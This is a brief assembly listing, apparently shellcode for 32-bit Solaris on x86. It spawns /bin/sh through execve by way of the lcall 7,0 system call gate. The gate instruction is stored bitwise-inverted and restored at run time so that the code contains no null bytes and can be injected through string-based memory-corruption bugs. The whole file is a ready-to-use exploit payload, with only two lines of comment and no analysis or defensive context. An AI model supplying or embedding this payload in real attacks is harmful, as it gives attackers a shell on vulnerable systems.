; Solaris, 32 bit: execve("/bin/sh") through the call gate; "lcall 7, 0; ret" is pushed inverted, since its zeros
; would end a string, and called.
bits 32
        push dword 0x3cfff8ff
        not dword [esp]
        push dword 0xffffff65
        not dword [esp]
        mov edi, esp
        xor eax, eax
        push eax
        push dword '//sh'
        push dword '/bin'
        mov ebx, esp
        push eax
        push ebx
        mov ecx, esp
        push eax
        push ecx
        push ebx
        mov al, 59
        call edi
